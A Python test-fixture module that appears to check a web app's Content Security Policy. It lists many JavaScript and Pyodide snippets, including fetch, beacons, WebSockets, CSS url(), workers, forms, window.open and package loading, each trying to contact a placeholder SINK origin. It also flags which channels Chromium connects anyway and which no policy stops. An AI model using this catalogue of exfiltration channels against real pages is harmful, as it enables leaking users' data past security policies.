"""Every way we know for a page to tell another origin something, each tried in earnest.

A way is an expression of JavaScript (or lines of Python) that tells SINK + its own name, and comes back
when its attempt has ended, however. Whether it got through, only the sink knows.
"""

import json


def _shown(make: str) -> str:
    """An element called ``e``, shown: only then does the browser ask for what its style names."""
    drawn = "new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))"
    return f"(() => {{ {make}; document.body.append(e); return {drawn}; }})()"


SHARED = {  # by a page and by a worker alike
    "fetch": "fetch(SINK + 'fetch', {mode: 'no-cors'})",
    "post": "fetch(SINK + 'post', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'})",
    "xhr": "new Promise(r => { const x = new XMLHttpRequest(); x.onloadend = r; x.open('GET', SINK + 'xhr'); x.send(); })",
    "websocket": "new Promise(r => { const w = new WebSocket(SINK.replace('http', 'ws') + 'websocket'); w.onclose = w.onerror = r; })",
    "eventsource": "new Promise(r => { const e = new EventSource(SINK + 'eventsource'); e.onerror = () => { e.close(); r(); }; })",
    "import": "import(SINK + 'import')",
    "font": "new FontFace('stolen', `url(${SINK}font)`).load()",
    "nested": """new Promise(r => {
        const code = `fetch(${JSON.stringify(SINK + 'nested')}, {mode: 'no-cors'}).finally(() => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = worker.onerror = r;
    })""",
}
WORKER = {**SHARED, "importscripts": "importScripts(SINK + 'importscripts')"}

_LINK = "new Promise(r => { const l = document.createElement('link'); l.onload = l.onerror = r; %s; document.head.append(l); })"
_LOADED = "new Promise(r => { const e = document.createElement('%s'); e.onload = e.onerror = e.onloadstart = r; e.%s; document.body.append(e); })"
PAGE = {
    **SHARED,
    "beacon": "navigator.sendBeacon(SINK + 'beacon', 'x')",
    "image": "new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = SINK + 'image'; })",
    "media": _LOADED % ("video", "src = SINK + 'media'"),
    "script": _LOADED % ("script", "src = SINK + 'script'"),
    "object": _LOADED % ("object", "data = SINK + 'object'"),
    "srcdoc": _LOADED % ("iframe", "srcdoc = `<img src='${SINK}srcdoc'>`"),
    "stylesheet": _LINK % "l.rel = 'stylesheet'; l.href = SINK + 'stylesheet'",
    "preload": _LINK % "l.rel = 'preload'; l.as = 'image'; l.href = SINK + 'preload'",
    "prefetch": _LINK % "l.rel = 'prefetch'; l.href = SINK + 'prefetch'",
    "css-import": _shown(
        "const e = document.createElement('style'); e.textContent = `@import '${SINK}css-import';`"
    ),
    "css-url": _shown(
        "const e = document.createElement('p'); e.style.backgroundImage = `url(${SINK}css-url)`; e.append('x')"
    ),
    "css-attribute": _shown(
        "const e = document.createElement('p'); e.setAttribute('style', `background: url(${SINK}css-attribute)`); e.append('x')"
    ),
    "css-sheet": _shown(
        "const s = new CSSStyleSheet(); s.replaceSync(`.stolen { background: url(${SINK}css-sheet) }`); document.adoptedStyleSheets = [s]; const e = document.createElement('p'); e.className = 'stolen'; e.append('x')"
    ),
    "ping": "(() => { const a = document.createElement('a'); a.href = '#'; a.ping = SINK + 'ping'; document.body.append(a); a.click(); })()",
    "sharedworker": """new Promise(r => {
        const code = `onconnect = ({ports}) => fetch(${JSON.stringify(SINK + 'sharedworker')}, {mode: 'no-cors'}).finally(() => ports[0].postMessage(0))`;
        const worker = new SharedWorker(URL.createObjectURL(new Blob([code])));
        worker.port.onmessage = worker.onerror = r;
    })""",
    "worker": "new Promise(r => { new Worker(SINK + 'worker').onerror = r; })",
    "serviceworker": "navigator.serviceWorker.register(SINK + 'serviceworker')",
}
# Refused like the others, but Chromium gets ready to go there before it asks the policy: it connects,
# and says nothing.
CONNECTING = {
    "frame": _LOADED % ("iframe", "src = SINK + 'frame'"),
    "form": "new Promise(r => { const f = document.createElement('form'); f.action = SINK + 'form'; f.method = 'post'; document.body.append(f); f.submit(); })",
}
# What no policy stops. The site's own code has none of it (test_policy.py), and Om → Integritet says so.
UNSTOPPED = {
    "window": "window.open(SINK + 'window')",
    "preconnect": "(() => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = SINK; document.head.append(l); })()",
    "navigation": "location.assign(SINK + 'navigation')",
}
# The browser itself allows no worker from another origin, policy or not.
NEVER = {"worker", "serviceworker"}

PYTHON = {
    "fetch": "import js\nawait js.fetch(SINK + 'fetch', mode='no-cors')",
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(SINK + 'pyfetch')",
    "xhr": "from pyodide.http import open_url\nopen_url(SINK + 'xhr')",
    "websocket": "import js\nw = js.WebSocket.new(SINK.replace('http', 'ws') + 'websocket')\nawait ended(w)",
    "eventsource": "import js\ne = js.EventSource.new(SINK + 'eventsource')\nawait ended(e)\ne.close()",
    "font": "import js\nawait js.FontFace.new('stolen', f'url({SINK}font)').load()",
    "run-js": "from pyodide.code import run_js\nawait run_js(f\"fetch('{SINK}run-js', {{mode: 'no-cors'}})\")",
    "import": "import js\nawait js.eval(f\"import('{SINK}import')\")",
    "package.whl": "import pyodide_js\nawait pyodide_js.loadPackage(SINK + 'package.whl')",
    "nested": """import js
code = f"fetch('{SINK}nested', {{mode: 'no-cors'}}).finally(() => postMessage(0))"
w = js.Worker.new(js.URL.createObjectURL(js.Blob.new([code])))
await ended(w)""",
}
# Emscripten makes a WebSocket of it, which can only ask for »/«.
SOCKET = """import socket
from urllib.parse import urlsplit
host = urlsplit(SINK)
socket.create_connection((host.hostname, host.port), 1)"""
ENDED = """
def ended(what):
    import asyncio
    over = asyncio.get_running_loop().create_future()
    def tell(event):
        if not over.done():
            over.set_result(None)
    from pyodide.ffi import create_proxy
    what.onerror = what.onmessage = what.onclose = create_proxy(tell)
    return over
"""


def tried(way: str) -> str:
    """A way as a function of SINK, over when the attempt is, or when the policy has refused it."""
    return f"""(SINK) => new Promise((over) => {{
        addEventListener("securitypolicyviolation", over, {{once: true}});
        Promise.resolve().then(() => {way}).then(over, over);
    }}).then(() => {{}})"""


def worker(ways: dict[str, str], sink: str) -> str:
    """A worker's source: every way in turn, and at last what became of code that is made from text."""
    attempts = ", ".join(f"() => {way}" for way in ways.values())
    return f"""const SINK = {json.dumps(sink)};
        (async () => {{
            for (const attempt of [{attempts}]) try {{ await attempt(); }} catch {{}}
            try {{ new Function("return 1")(); postMessage("runs"); }} catch {{ postMessage("refused"); }}
        }})();"""
